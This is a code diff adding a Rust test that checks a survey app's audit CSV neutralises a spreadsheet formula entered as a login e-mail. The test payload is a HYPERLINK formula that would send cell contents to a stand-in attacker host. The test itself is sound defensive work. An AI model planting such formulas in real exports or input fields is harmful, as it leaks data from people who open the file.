@@ -165,6 +165,21 @@ async fn stored_xss_through_answers_and_survey_text_is_escaped(db: TestDb) {
         assert_eq!(page.status, StatusCode::OK, "{path}");
         assert_no_injected_markup(&page, &path);
     }
+    // A formula typed as the e-mail address does not run when the audit CSV is opened
+    // in a spreadsheet.
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    sign_in(&mut attacker, formula, "whatever-password").await;
+    let audit = audit_rows(&admin).await;
+    let failed: Vec<&str> = audit
+        .iter()
+        .filter(|r| r["action"] == "login_failed")
+        .map(|r| r["actor_email"].as_str())
+        .collect();
+    assert!(
+        failed.contains(&format!("'{}", formula.to_lowercase()).as_str()),
+        "{failed:?}"
+    );
+    assert!(!failed.iter().any(|e| e.starts_with('=')));
     app.stop().await;
 }
 
